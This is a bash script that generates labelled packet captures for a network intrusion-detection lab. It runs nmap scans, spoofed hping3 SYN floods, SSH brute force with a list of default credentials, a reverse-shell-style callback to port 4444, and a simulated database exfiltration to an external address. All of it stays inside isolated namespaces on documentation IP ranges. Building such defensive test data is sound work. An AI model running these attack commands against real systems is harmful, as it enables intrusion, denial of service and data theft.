#!/usr/bin/env bash
# Build the backflow lab captures.
#
#   sudo bash scripts/captures/generate.sh [OUTDIR]      (default OUTDIR: pcaps/lab)
#
# Two network namespaces joined by one veth pair stand in for the home
# network and the internet:
#
#   bflab-in  (veth-in)  : home hosts 10.20.1.10 web, .20 workstation, .25 mail,
#                          .30 db, 10.20.2.1-30 (sweep targets), fd00:20::10, ::20
#   bflab-out (veth-out) : "internet" hosts in 198.51.100.0/24, 203.0.113.0/24
#                          and 2001:db8::/32 (documentation ranges only)
#
# Only on-link routes for the other side's ranges exist (no default route), so
# nothing can leave the two namespaces; the root namespace is not touched apart
# from creating the namespaces. Every scenario runs real tools (nmap, hping3,
# sshd/ssh, curl, swaks, socat, ncat, small python servers beside this script)
# and is captured with tcpdump on veth-in into OUTDIR/<scenario>.pcap.
# OUTDIR/ground-truth.tsv, OUTDIR/README.md and OUTDIR/policy.toml are written
# at the end, and verify.py checks the ground truth against the packets.
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
REPO=$(cd "$HERE/../.." && pwd)
OUT=${1:-$REPO/pcaps/lab}

NS_IN=bflab-in
NS_OUT=bflab-out
IF_IN=veth-in
IF_OUT=veth-out
T=60                       # timeout (s) around every tool
PY=/usr/bin/python3
[[ -x $PY ]] || PY=$(command -v python3 || true)

ME=generate.sh
# shellcheck source=lib.sh
source "$HERE/lib.sh"
lab_require_root "${1:-}"

# ---------------------------------------------------------------- tool check
declare -A PKG=([ip]=iproute2 [ss]=iproute2 [timeout]=coreutils [tcpdump]=tcpdump
    [nmap]=nmap [hping3]=hping3 [socat]=socat [ncat]=ncat [tshark]=tshark
    [capinfos]=wireshark-common [sshd]=openssh-server [ssh]=openssh-client
    [ssh-keygen]=openssh-client [sshpass]=sshpass [curl]=curl [swaks]=swaks
    [openssl]=openssl [python3]=python3)
lab_check_tools PKG
lab_init bflab
lab_take_namespaces

# ---------------------------------------------------------------- topology
say "setting up namespaces in $WORK"
IN4=(10.20.1.10 10.20.1.20 10.20.1.25 10.20.1.30 $(seq -f '10.20.2.%g' 1 30))
IN6=(fd00:20::10 fd00:20::20)
# first address = kernel's default source; scanners bind explicitly anyway
OUT4=(203.0.113.50 203.0.113.51 203.0.113.52 203.0.113.40 203.0.113.77 203.0.113.90
      203.0.113.30 203.0.113.11 203.0.113.12 203.0.113.13 203.0.113.14 203.0.113.15
      198.51.100.7 198.51.100.20 198.51.100.25 198.51.100.53 198.51.100.54
      198.51.100.80 198.51.100.81 198.51.100.60 $(seq -f '198.51.100.%g' 100 129))
OUT6=(2001:db8:ff::50 2001:db8:1::20 2001:db8:1::30)

lab_veth_pair
lab_addrs $NS_IN $IF_IN "${IN4[@]}" "${IN6[@]}"
lab_addrs $NS_OUT $IF_OUT "${OUT4[@]}" "${OUT6[@]}"
lab_links_up
rc ip -n $NS_IN route add 198.51.100.0/24 dev $IF_IN
rc ip -n $NS_IN route add 203.0.113.0/24 dev $IF_IN
rc ip -n $NS_IN route add 2001:db8::/32 dev $IF_IN
rc ip -n $NS_OUT route add 10.20.1.0/24 dev $IF_OUT
rc ip -n $NS_OUT route add 10.20.2.0/24 dev $IF_OUT
rc ip -n $NS_OUT route add fd00:20::/64 dev $IF_OUT
OUT_MAC=$(ip -n $NS_OUT -br link show $IF_OUT | awk '{print $3}')

lab_keys                       # keys and certificates (throw-away, in $WORK)
SSH_OPTS=(-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null
          -o ConnectTimeout=5 -o LogLevel=ERROR)
NMAP=(nmap -n -Pn --max-retries 1 -T4 --reason)
HTTPD=("$PY" "$HERE/httpd.py")
UDPSVC=("$PY" "$HERE/udp_service.py")
sleep 2   # let IPv6 link-local/MLD chatter of link-up pass before the first capture
CUR=setup

# ================================================================ 1. inbound scans
scan_target_services() {       # a couple of real listeners on the workstation
    svc $NS_IN "${HTTPD[@]}" --bind 10.20.1.20 --port 80 --label ws20
    svc $NS_IN socat TCP4-LISTEN:22,bind=10.20.1.20,reuseaddr,fork SYSTEM:'echo SSH-2.0-OpenSSH_9.2p1'
    svc $NS_IN "${UDPSVC[@]}" serve dns --bind 10.20.1.20
    svc $NS_IN "${UDPSVC[@]}" serve ntp --bind 10.20.1.20
    wait_listen $NS_IN tcp 10.20.1.20 80; wait_listen $NS_IN tcp 10.20.1.20 22
    wait_listen $NS_IN udp 10.20.1.20 53; wait_listen $NS_IN udp 10.20.1.20 123
}
declare -A SCANDESC=([sS]="TCP SYN (half-open)" [sT]="TCP connect() (full handshakes)"
    [sF]="TCP FIN" [sX]="TCP Xmas (FIN+PSH+URG)" [sN]="TCP NULL (no flags)")
declare -A SCANNAME=([sS]=syn [sT]=connect [sF]=fin [sX]=xmas [sN]=null)
for st in sS sT sF sX sN; do
    scenario "inbound-scan-${SCANNAME[$st]}" \
        "Inbound nmap -$st ${SCANDESC[$st]} scan of ports 1-1000 from external 203.0.113.50 against workstation 10.20.1.20 (open: tcp/22 socat banner, tcp/80 python httpd)."
    scan_target_services
    cap_start
    nsx_any $NS_OUT "${NMAP[@]}" -$st -p 1-1000 -e $IF_OUT -S 203.0.113.50 10.20.1.20
    cap_stop
    extra=""
    [[ $st == sT ]] && extra="; full handshakes completed to 22 and 80 (unpublished ports; an unexpected_inbound finding folded into the scan is acceptable)"
    [[ $st == s[FXN] ]] && extra="; closed ports answer RST/ACK, open ports stay silent"
    gt port_scan 203.0.113.50 10.20.1.20 "technique=${SCANNAME[$st]}; direction=inbound; 1000 tcp ports (1-1000); open 22,80${extra}"
done

scenario inbound-scan-udp \
    "Inbound nmap -sU --top-ports 100 UDP scan from 203.0.113.50 against workstation 10.20.1.20 (answering: udp/53 DNS, udp/123 NTP; closed ports answer ICMP port unreachable)."
scan_target_services
cap_start
nsx_any $NS_OUT "${NMAP[@]}" -sU --top-ports 100 --host-timeout 45s -e $IF_OUT -S 203.0.113.50 10.20.1.20
cap_stop
gt port_scan 203.0.113.50 10.20.1.20 "technique=udp; direction=inbound; nmap --top-ports 100; open 53,123; ICMP port-unreachable for closed ports"

# ================================================================ 2. outbound scan
scenario outbound-scan-syn \
    "Outbound nmap -sS scan of ports 1-1000 from home db server 10.20.1.30 against external 198.51.100.80 (open there: 22, 80, 443) -- the 'NAT gateway port-scans the internet' case."
svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.80 --port 80 --label ext80
svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.80 --port 443 --tls "$WORK/tls.crt" "$WORK/tls.key" --label ext80
svc $NS_OUT socat TCP4-LISTEN:22,bind=198.51.100.80,reuseaddr,fork SYSTEM:'echo SSH-2.0-OpenSSH_8.9'
wait_listen $NS_OUT tcp 198.51.100.80 80; wait_listen $NS_OUT tcp 198.51.100.80 443; wait_listen $NS_OUT tcp 198.51.100.80 22
cap_start
nsx_any $NS_IN "${NMAP[@]}" -sS -p 1-1000 -e $IF_IN -S 10.20.1.30 198.51.100.80
cap_stop
gt port_scan 10.20.1.30 198.51.100.80 "technique=syn; direction=outbound; 1000 tcp ports (1-1000); open 22,80,443; (every probe also breaks db egress policy egress=[]: secondary)"

# ================================================================ 3. sweeps
scenario inbound-sweep-tcp22 \
    "Inbound nmap -sS -p 22 sweep from 203.0.113.51 across 30 home addresses 10.20.2.1-30 (22 open on 10.20.2.5 and 10.20.2.12, closed elsewhere)."
for a in 10.20.2.5 10.20.2.12; do
    svc $NS_IN socat TCP4-LISTEN:22,bind=$a,reuseaddr,fork SYSTEM:'echo SSH-2.0-OpenSSH_9.2p1'
    wait_listen $NS_IN tcp $a 22
done
cap_start
nsx_any $NS_OUT "${NMAP[@]}" -sS -p 22 -e $IF_OUT -S 203.0.113.51 10.20.2.1-30
cap_stop
gt port_sweep 203.0.113.51 '*:22' "technique=syn; direction=inbound; 30 hosts 10.20.2.1-30, tcp/22; open on 10.20.2.5,10.20.2.12"

scenario outbound-sweep-tcp445 \
    "Outbound nmap -sS -p 445 sweep from workstation 10.20.1.20 across 30 external addresses 198.51.100.100-129 (445 open on .105 and .117)."
for a in 198.51.100.105 198.51.100.117; do
    svc $NS_OUT socat TCP4-LISTEN:445,bind=$a,reuseaddr,fork SYSTEM:'sleep 1'
    wait_listen $NS_OUT tcp $a 445
done
cap_start
nsx_any $NS_IN "${NMAP[@]}" -sS -p 445 -e $IF_IN -S 10.20.1.20 198.51.100.100-129
cap_stop
gt port_sweep 10.20.1.20 '*:445' "technique=syn; direction=outbound; 30 hosts 198.51.100.100-129, tcp/445; open on .105,.117; (also outside workstation egress policy: secondary)"

scenario inbound-sweep-udp161 \
    "Inbound nmap -sU -p 161 (SNMP) sweep from 203.0.113.52 across 30 home addresses 10.20.2.1-30 (all closed: ICMP port unreachable)."
cap_start
nsx_any $NS_OUT "${NMAP[@]}" -sU -p 161 --host-timeout 20s -e $IF_OUT -S 203.0.113.52 10.20.2.1-30
cap_stop
gt port_sweep 203.0.113.52 '*:161' "technique=udp; direction=inbound; 30 hosts 10.20.2.1-30, udp/161 SNMP get probes; all closed (ICMP unreachable)"

# ================================================================ 4. SYN floods
# Spoofed sources are unassigned documentation addresses. Static neighbour
# entries on the home side point them at veth-out, so the victim's SYN-ACKs go
# onto the wire (and are then dropped by bflab-out, which does not forward).

scenario syn-flood-single-source \
    "Single-source SYN flood: hping3 sends 1400 SYNs at 2000/s from spoofed 203.0.113.66 (no such host answers) to web server 10.20.1.10:80 (python httpd, backlog 5; the kernel falls back to SYN cookies)."
spoof_neigh 203.0.113.66
logcmd root ip -n $NS_IN neigh replace 203.0.113.66 lladdr "$OUT_MAC" dev $IF_IN nud permanent
svc $NS_IN "${HTTPD[@]}" --bind 10.20.1.10 --port 80 --label web01
wait_listen $NS_IN tcp 10.20.1.10 80
cap_start
nsx_any $NS_OUT hping3 -q -S -p 80 -i u500 -c 1400 -a 203.0.113.66 10.20.1.10
cap_stop
gt syn_flood 203.0.113.66 10.20.1.10:80 "technique=syn; direction=inbound; 1400 SYNs in ~1 s from one spoofed source, hping3 -i u500; handshakes never completed"

scenario syn-flood-distributed \
    "Distributed SYN flood: 200 spoofed sources (203.0.113.100-199, 198.51.100.150-249) x 5 SYNs each (hping3 -a per source, 50 in parallel) to web server 10.20.1.10:80."
SRCS=($(seq -f '203.0.113.%g' 100 199) $(seq -f '198.51.100.%g' 150 249))
spoof_neigh "${SRCS[@]}"
logcmd root "# for A in 203.0.113.100-199 198.51.100.150-249:" ip -n $NS_IN neigh replace '$A' lladdr "$OUT_MAC" dev $IF_IN nud permanent
svc $NS_IN "${HTTPD[@]}" --bind 10.20.1.10 --port 80 --label web01
wait_listen $NS_IN tcp 10.20.1.10 80
cap_start
logcmd $NS_OUT "# for A in 203.0.113.100-199 198.51.100.150-249 (50 at a time, in parallel):" timeout $T hping3 -q -S -p 80 -i u10000 -c 5 -a '$A' 10.20.1.10
for ((i = 0; i < ${#SRCS[@]}; i += 50)); do
    pids=()
    for a in "${SRCS[@]:i:50}"; do
        ip netns exec $NS_OUT timeout $T hping3 -q -S -p 80 -i u10000 -c 5 -a "$a" 10.20.1.10 >>"$WORK/logs/$CUR.log" 2>&1 &
        pids+=($!)
    done
    for p in "${pids[@]}"; do wait "$p" || true; done
done
cap_stop
gt syn_flood '*' 10.20.1.10:80 "technique=syn; direction=inbound; distributed: 200 spoofed sources (203.0.113.100-199, 198.51.100.150-249) x 5 SYNs = 1000 SYNs in ~4 s; handshakes never completed"

# ================================================================ 5. reversed role
scenario reversed-role \
    "Web server 10.20.1.10 first serves a normal inbound HTTP request on :80 (from 203.0.113.11), then the httpd stops and the host opens outbound TCP connections FROM its server ports: 10.20.1.10:80 -> 198.51.100.20:8080 (socat bind=10.20.1.10:80, an HTTP GET) and 10.20.1.10:22 -> 203.0.113.30:4444 (socat sourceport 22, backdoor-style shell banner)."
svc $NS_IN "${HTTPD[@]}" --bind 10.20.1.10 --port 80 --label web01
svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.20 --port 8080 --label c2-8080
mkexec c2_4444.sh 'sleep 0.3; printf "id\n"; sleep 1; printf "uname -a\n"; sleep 1; printf "exit\n"; sleep 0.5'
svc $NS_OUT socat -T 10 TCP4-LISTEN:4444,bind=203.0.113.30,reuseaddr EXEC:"$WORK/c2_4444.sh"
wait_listen $NS_IN tcp 10.20.1.10 80; wait_listen $NS_OUT tcp 198.51.100.20 8080; wait_listen $NS_OUT tcp 203.0.113.30 4444
cap_start
nsx $NS_OUT curl -sS -o /dev/null --interface 203.0.113.11 http://10.20.1.10/ http://10.20.1.10/index.html
sleep 1
kill -TERM "${BG_PIDS[0]}"; wait "${BG_PIDS[0]}" 2>/dev/null || true   # httpd on :80 stops
printf '# (stop the httpd on 10.20.1.10:80)\n' >>"$WORK/cmds/$CUR"
sleep 1
nsx $NS_IN sh -c 'printf "GET /gate.php?id=web01 HTTP/1.1\r\nHost: 198.51.100.20:8080\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n" | socat -T 5 - TCP4:198.51.100.20:8080,bind=10.20.1.10:80,reuseaddr'
sleep 1
nsx_any $NS_IN sh -c '(printf "uid=0(root) gid=0(root) groups=0(root)\n"; sleep 2; printf "Linux web01 6.1.0 x86_64\n"; sleep 1) | socat -T 5 - TCP4:203.0.113.30:4444,bind=10.20.1.10:22,reuseaddr'
cap_stop
gt benign 203.0.113.11 10.20.1.10:80 "context: normal inbound HTTP (2 GETs) to the published web port earlier in the capture"
gt reversed_role 10.20.1.10:80 198.51.100.20:8080 "direction=outbound; web server initiates TCP from its service port 80 (socat bind=10.20.1.10:80), HTTP GET to 8080"
gt reversed_role 10.20.1.10:22 203.0.113.30:4444 "direction=outbound; web server initiates TCP from its service port 22 to 4444 (reverse-shell style exchange, ~3 s)"
gt egress_violation 10.20.1.10 198.51.100.20:8080 "secondary: same connection as the reversed_role above; web egress policy allows only dns,ntp"
gt egress_violation 10.20.1.10 203.0.113.30:4444 "secondary: same connection as the reversed_role above; web egress policy allows only dns,ntp"

# ================================================================ 6. unexpected inbound
scenario unexpected-inbound \
    "Workstation 10.20.1.20 publishes nothing, yet external 203.0.113.40 completes an SSH session to it (real OpenSSH sshd on 10.20.1.20:22, key login running 'uname -a; id') and then a TCP session to 10.20.1.20:3389 (socat listener answering an RDP X.224 connection request)."
svc $NS_IN /usr/sbin/sshd -D -e -f "$(sshd_conf 10.20.1.20)"
mkexec rdp_3389.sh 'head -c 19 >/dev/null; printf "\003\000\000\023\016\320\000\000\022\064\000\002\037\010\000\002\000\000\000"; sleep 0.5'
svc $NS_IN socat -T 5 TCP4-LISTEN:3389,bind=10.20.1.20,reuseaddr EXEC:"$WORK/rdp_3389.sh"
wait_listen $NS_IN tcp 10.20.1.20 22; wait_listen $NS_IN tcp 10.20.1.20 3389
cap_start
nsx $NS_OUT ssh "${SSH_OPTS[@]}" -b 203.0.113.40 -i "$WORK/client_key" root@10.20.1.20 'uname -a; id'
sleep 1
nsx $NS_OUT sh -c 'printf "\003\000\000\023\016\340\000\000\000\000\000\001\000\010\000\003\000\000\000" | ncat -s 203.0.113.40 -w 5 -i 3 10.20.1.20 3389 | od -c | head -3'
cap_stop
gt unexpected_inbound 203.0.113.40 10.20.1.20:22 "direction=inbound; completed SSH session (OpenSSH 9.2 sshd, publickey login, command run) to a workstation that publishes no services"
gt unexpected_inbound 203.0.113.40 10.20.1.20:3389 "direction=inbound; completed TCP handshake + RDP X.224 request/confirm to the workstation"

# ================================================================ 7. brute force
scenario brute-force-ssh \
    "SSH password brute force: 16 short sessions from 203.0.113.77 to web server 10.20.1.10:22 (real OpenSSH sshd; sshpass feeds one wrong password per connection, each rejected), then one longer key-authenticated session (~8 s)."
svc $NS_IN /usr/sbin/sshd -D -e -f "$(sshd_conf 10.20.1.10)"
wait_listen $NS_IN tcp 10.20.1.10 22
cap_start
logcmd $NS_OUT "# for USER:PASS in root:123456 admin:admin root:password ubuntu:ubuntu root:toor admin:123456 test:test root:qwerty oracle:oracle root:letmein pi:raspberry root:admin123 user:user root:changeme guest:guest root:P@ssw0rd (0.3 s apart):" timeout $T sshpass -p '$PASS' ssh "${SSH_OPTS[@]}" -o PreferredAuthentications=password -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -b 203.0.113.77 '$USER@10.20.1.10' true
for up in root:123456 admin:admin root:password ubuntu:ubuntu root:toor admin:123456 test:test root:qwerty \
          oracle:oracle root:letmein pi:raspberry root:admin123 user:user root:changeme guest:guest root:P@ssw0rd; do
    r=0
    ip netns exec $NS_OUT timeout $T sshpass -p "${up#*:}" ssh "${SSH_OPTS[@]}" -o PreferredAuthentications=password \
        -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -b 203.0.113.77 "${up%%:*}@10.20.1.10" true \
        >>"$WORK/logs/$CUR.log" 2>&1 || r=$?
    echo "try ${up%%:*}: exit=$r" >>"$WORK/logs/$CUR.log"
    sleep 0.3
done
sleep 1
nsx $NS_OUT ssh "${SSH_OPTS[@]}" -b 203.0.113.77 -i "$WORK/client_key" root@10.20.1.10 'for i in 1 2 3 4; do uptime; sleep 2; done'
cap_stop
gt brute_force 203.0.113.77 10.20.1.10:22 "technique=ssh password guessing; direction=inbound; 16 failed sessions (one password each) in ~7 s, then 1 longer session (~8 s, key login) from the same source"

# ================================================================ 8. egress violation
scenario egress-violation-db \
    "Database server 10.20.1.30 (egress policy: none) uploads data over TLS to external 198.51.100.53:443 (curl POST, SNI backup.example.net) and pushes a payload to 198.51.100.54:5432 (ncat)."
svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.53 --port 443 --tls "$WORK/tls.crt" "$WORK/tls.key" --label backup
mkexec pg_5432.sh 'head -c 60 >/dev/null; printf "R\000\000\000\010\000\000\000\000Z\000\000\000\005I"; cat >/dev/null'
svc $NS_OUT socat -T 5 TCP4-LISTEN:5432,bind=198.51.100.54,reuseaddr EXEC:"$WORK/pg_5432.sh"
wait_listen $NS_OUT tcp 198.51.100.53 443; wait_listen $NS_OUT tcp 198.51.100.54 5432
head -c 6000 /dev/urandom | base64 >"$WORK/dump.txt"
cap_start
nsx $NS_IN curl -sS -k -o /dev/null --interface 10.20.1.30 --resolve backup.example.net:443:198.51.100.53 \
    --data-binary @"$WORK/dump.txt" https://backup.example.net/upload
sleep 1
nsx $NS_IN sh -c 'printf "\000\000\000\050\000\003\000\000user\000postgres\000database\000crm\000\000COPY customers TO STDOUT;\n" | ncat -s 10.20.1.30 -w 5 -i 3 198.51.100.54 5432 | od -c | head -2'
cap_stop
gt egress_violation 10.20.1.30 198.51.100.53:443 "direction=outbound; db host (egress=[]) TLS upload, ~8 KB POST, SNI backup.example.net"
gt egress_violation 10.20.1.30 198.51.100.54:5432 "direction=outbound; db host (egress=[]) sends a postgres-like payload to an external server"

# ================================================================ 9. outbound SMTP
scenario outbound-smtp \
    "Workstation 10.20.1.20 (not a mail server) delivers mail directly to external 198.51.100.25:25 with swaks (EHLO/MAIL/RCPT/DATA/QUIT against a python SMTP sink)."
svc $NS_OUT "$PY" "$HERE/smtp_sink.py" --bind 198.51.100.25 --name mx.example.net
wait_listen $NS_OUT tcp 198.51.100.25 25
cap_start
nsx $NS_IN swaks --server 198.51.100.25 --port 25 --local-interface 10.20.1.20 --helo ws20.lab.example \
    --from alice@lab.example --to bob@example.net --header 'Subject: invoice' --body 'see attachment' --timeout 10
cap_stop
gt outbound_smtp 10.20.1.20 198.51.100.25:25 "direction=outbound; 1 SMTP transaction (swaks) from a non-mail host straight to an external MX"

# ================================================================ 10. open proxy
scenario open-proxy \
    "Web server 10.20.1.10:80 runs an open forward proxy (python). External 203.0.113.90 sends 'GET http://198.51.100.7/ HTTP/1.1' and 'CONNECT 198.51.100.7:443 HTTP/1.1' (curl -x); each time the web server immediately opens 10.20.1.10 -> 198.51.100.7:80 / :443 and relays."
svc $NS_IN "$PY" "$HERE/proxy.py" --bind 10.20.1.10 --port 80 --source 10.20.1.10
svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.7 --port 80 --label target7
svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.7 --port 443 --tls "$WORK/tls.crt" "$WORK/tls.key" --label target7
wait_listen $NS_IN tcp 10.20.1.10 80; wait_listen $NS_OUT tcp 198.51.100.7 80; wait_listen $NS_OUT tcp 198.51.100.7 443
cap_start
nsx $NS_OUT curl -sS -o /dev/null --interface 203.0.113.90 -x http://10.20.1.10:80 http://198.51.100.7/
sleep 1
nsx $NS_OUT curl -sS -k -o /dev/null --interface 203.0.113.90 -x http://10.20.1.10:80 https://198.51.100.7/
cap_stop
gt open_proxy 203.0.113.90 10.20.1.10:80 "direction=inbound then relayed outbound; absolute-form GET http://198.51.100.7/ relayed as 10.20.1.10->198.51.100.7:80 and CONNECT 198.51.100.7:443 tunnelled as 10.20.1.10->198.51.100.7:443, each within ~10 ms"
gt egress_violation 10.20.1.10 198.51.100.7:80 "secondary: proxy's relayed leg; web egress policy allows only dns,ntp"
gt egress_violation 10.20.1.10 198.51.100.7:443 "secondary: proxy's CONNECT leg; web egress policy allows only dns,ntp"

# ================================================================ 11. IPv6
scenario ipv6-scan-syn \
    "IPv6 inbound nmap -6 -sS scan of ports 1-200 from 2001:db8:ff::50 against workstation fd00:20::20 (open: tcp/22 socat banner)."
svc $NS_IN socat TCP6-LISTEN:22,bind=[fd00:20::20],reuseaddr,fork SYSTEM:'echo SSH-2.0-OpenSSH_9.2p1'
wait_listen $NS_IN tcp '[fd00:20::20]' 22
cap_start
nsx_any $NS_OUT "${NMAP[@]}" -6 -sS -p 1-200 -e $IF_OUT -S 2001:db8:ff::50 fd00:20::20
cap_stop
gt port_scan 2001:db8:ff::50 fd00:20::20 "technique=syn; direction=inbound; ipv6; 200 tcp ports (1-200); open 22"

scenario ipv6-reversed-role \
    "IPv6: web server fd00:20::10 first serves an inbound HTTPS request on :443 (from 2001:db8:1::30), then its httpd stops and it opens TCP FROM [fd00:20::10]:443 to [2001:db8:1::20]:9000 (socat sourceport 443)."
svc $NS_IN "${HTTPD[@]}" --bind fd00:20::10 --port 443 --tls "$WORK/tls.crt" "$WORK/tls.key" --label web01-v6
mkexec v6_9000.sh 'sleep 0.3; printf "hello\n"; cat >/dev/null'
svc $NS_OUT socat -T 5 TCP6-LISTEN:9000,bind=[2001:db8:1::20],reuseaddr EXEC:"$WORK/v6_9000.sh"
wait_listen $NS_IN tcp '[fd00:20::10]' 443; wait_listen $NS_OUT tcp '[2001:db8:1::20]' 9000
cap_start
nsx $NS_OUT curl -sS -k -g -o /dev/null --interface 2001:db8:1::30 'https://[fd00:20::10]/'
sleep 1
kill -TERM "${BG_PIDS[0]}"; wait "${BG_PIDS[0]}" 2>/dev/null || true
printf '# (stop the httpd on [fd00:20::10]:443)\n' >>"$WORK/cmds/$CUR"
sleep 1
nsx_any $NS_IN sh -c '(printf "ready\n"; sleep 2) | socat -T 5 - TCP6:[2001:db8:1::20]:9000,bind=[fd00:20::10]:443,reuseaddr'
cap_stop
gt benign 2001:db8:1::30 '[fd00:20::10]:443' "context: normal inbound HTTPS to the web server's published port earlier in the capture"
gt reversed_role '[fd00:20::10]:443' '[2001:db8:1::20]:9000' "direction=outbound; ipv6; web server initiates TCP from its service port 443"
gt egress_violation fd00:20::10 '[2001:db8:1::20]:9000' "secondary: same connection as the reversed_role above; web egress policy allows only dns,ntp"

# ================================================================ 12. benign
scenario benign-mixed \
    "Benign mix, must raise no alert: workstation 10.20.1.20 resolves names (UDP DNS to 198.51.100.53), syncs time (UDP NTP to 198.51.100.60), browses 198.51.100.80 over HTTP and HTTPS, keeps one TLS session to 198.51.100.81:443 open for ~20 s with periodic data; web server 10.20.1.10 does DNS+NTP and serves HTTP to 3 external clients, is probed once on its published port 80 (nmap -sS -p 80, and hping3 3 SYNs); mail server 10.20.1.25 delivers one mail to 198.51.100.25:25."
svc $NS_OUT "${UDPSVC[@]}" serve dns --bind 198.51.100.53
svc $NS_OUT "${UDPSVC[@]}" serve ntp --bind 198.51.100.60
svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.80 --port 80 --label ext80
svc $NS_OUT "${HTTPD[@]}" --bind 198.51.100.80 --port 443 --tls "$WORK/tls.crt" "$WORK/tls.key" --label ext80
svc $NS_OUT socat -T 30 OPENSSL-LISTEN:443,bind=198.51.100.81,reuseaddr,cert="$WORK/tls.crt",key="$WORK/tls.key",verify=0 EXEC:cat
svc $NS_OUT "$PY" "$HERE/smtp_sink.py" --bind 198.51.100.25 --name mx.example.net
svc $NS_IN "${HTTPD[@]}" --bind 10.20.1.10 --port 80 --label web01
wait_listen $NS_OUT udp 198.51.100.53 53; wait_listen $NS_OUT udp 198.51.100.60 123
wait_listen $NS_OUT tcp 198.51.100.80 80; wait_listen $NS_OUT tcp 198.51.100.80 443
wait_listen $NS_OUT tcp 198.51.100.81 443; wait_listen $NS_OUT tcp 198.51.100.25 25
wait_listen $NS_IN tcp 10.20.1.10 80
cap_start
# long-lived TLS session in the background: a line every 2 s for ~20 s
logcmd $NS_IN timeout $T sh -c 'for i in $(seq 1 10); do echo keepalive $i; sleep 2; done | socat -T 10 - OPENSSL:198.51.100.81:443,bind=10.20.1.20,verify=0' '&'
ip netns exec $NS_IN timeout $T sh -c 'for i in $(seq 1 10); do echo keepalive $i; sleep 2; done | socat -T 10 - OPENSSL:198.51.100.81:443,bind=10.20.1.20,verify=0' \
    >>"$WORK/logs/$CUR.log" 2>&1 &
LONG_PID=$!
sleep 0.5
nsx $NS_IN "${UDPSVC[@]}" query dns --bind 10.20.1.20 --server 198.51.100.53 www.example.com news.example.org cdn.example.net
nsx $NS_IN "${UDPSVC[@]}" query ntp --bind 10.20.1.20 --server 198.51.100.60 --count 2
nsx $NS_IN curl -sS -o /dev/null --interface 10.20.1.20 http://198.51.100.80/ http://198.51.100.80/news http://198.51.100.80/about
nsx $NS_IN curl -sS -k -o /dev/null --interface 10.20.1.20 https://198.51.100.80/ https://198.51.100.80/login
nsx $NS_IN "${UDPSVC[@]}" query dns --bind 10.20.1.10 --server 198.51.100.53 updates.example.com
nsx $NS_IN "${UDPSVC[@]}" query ntp --bind 10.20.1.10 --server 198.51.100.60 --count 1
for c in 203.0.113.11 203.0.113.12 203.0.113.13; do
    nsx $NS_OUT curl -sS -o /dev/null --interface $c http://10.20.1.10/ http://10.20.1.10/products
    sleep 1
done
nsx_any $NS_OUT "${NMAP[@]}" -sS -p 80 -e $IF_OUT -S 203.0.113.14 10.20.1.10
nsx_any $NS_OUT hping3 -q -S -p 80 -c 3 -a 203.0.113.15 10.20.1.10
nsx $NS_IN swaks --server 198.51.100.25 --port 25 --local-interface 10.20.1.25 --helo mail.lab.example \
    --from noreply@lab.example --to partner@example.net --header 'Subject: weekly report' --body 'report attached' --timeout 10
sleep 2
nsx $NS_IN "${UDPSVC[@]}" query dns --bind 10.20.1.20 --server 198.51.100.53 mail.example.com
wait "$LONG_PID" || echo "generate.sh: warning: long-lived session exited non-zero" >&2
cap_stop
gt benign 10.20.1.20 198.51.100.53:53 "udp DNS, 4 queries (workstation egress dns)"
gt benign 10.20.1.20 198.51.100.60:123 "udp NTP, 2 exchanges (workstation egress ntp)"
gt benign 10.20.1.20 198.51.100.80:80 "HTTP, 3 GETs on one connection (workstation egress web)"
gt benign 10.20.1.20 198.51.100.80:443 "HTTPS, 2 GETs on one connection (workstation egress web)"
gt benign 10.20.1.20 198.51.100.81:443 "long-lived TLS session ~20 s, one record every 2 s"
gt benign 10.20.1.10 198.51.100.53:53 "udp DNS from web server (web egress dns)"
gt benign 10.20.1.10 198.51.100.60:123 "udp NTP from web server (web egress ntp)"
gt benign 203.0.113.11 10.20.1.10:80 "inbound HTTP to published web port"
gt benign 203.0.113.12 10.20.1.10:80 "inbound HTTP to published web port"
gt benign 203.0.113.13 10.20.1.10:80 "inbound HTTP to published web port"
gt benign 203.0.113.14 10.20.1.10:80 "nmap -sS -p 80: one SYN to the published port (SYN, SYN-ACK, RST)"
gt benign 203.0.113.15 10.20.1.10:80 "hping3 -S -c 3: three SYNs to the published port"
gt benign 10.20.1.25 198.51.100.25:25 "SMTP from the mail server (mail egress tcp/25)"

# ================================================================ outputs
CUR=done
cp "$GT" "$OUT/ground-truth.tsv"

cat >"$OUT/policy.toml" <<'EOF'
# backflow policy for the lab captures in this directory (scripts/captures/generate.sh).
# Home side: 10.20.0.0/16 and fd00:20::/64. Everything in 198.51.100.0/24,
# 203.0.113.0/24 and 2001:db8::/32 is "the internet".
home_nets = ["10.0.0.0/8", "fd00::/8"]

# Web server. tcp/22 is published on purpose: brute-force-ssh.pcap attacks a
# published service, and reversed-role.pcap's backdoor leaves from it.
[[hosts]]
addr = ["10.20.1.10", "fd00:20::10"]
role = "web"
services = ["tcp/80", "tcp/443", "tcp/22"]

[[hosts]]
addr = "10.20.1.30"
role = "db"
services = ["tcp/5432"]

[[hosts]]
addr = "10.20.1.25"
role = "mail"
services = ["tcp/25"]

[[hosts]]
addr = ["10.20.1.20", "fd00:20::20"]
role = "workstation"
services = []

# 10.20.2.1-30 (sweep targets) are deliberately not listed: unknown home hosts.

[roles.db]
egress = []

[roles.mail]
egress = ["tcp/25", "dns"]

[roles.workstation]
egress = ["web", "dns", "ntp", "mail-client"]

[roles.web]
egress = ["dns", "ntp"]
EOF

say "verifying ground truth against the packets"
"$PY" "$HERE/verify.py" "$OUT" >"$WORK/verify.txt" 2>&1 || { cat "$WORK/verify.txt"; exit 1; }
cat "$WORK/verify.txt"

# ---------------------------------------------------------------- README
{
cat <<EOF
# backflow lab captures

Generated by \`scripts/captures/generate.sh\` on $(date -u +%Y-%m-%d) (run as root:
\`sudo bash scripts/captures/generate.sh [OUTDIR]\`, default OUTDIR \`pcaps/lab\`;
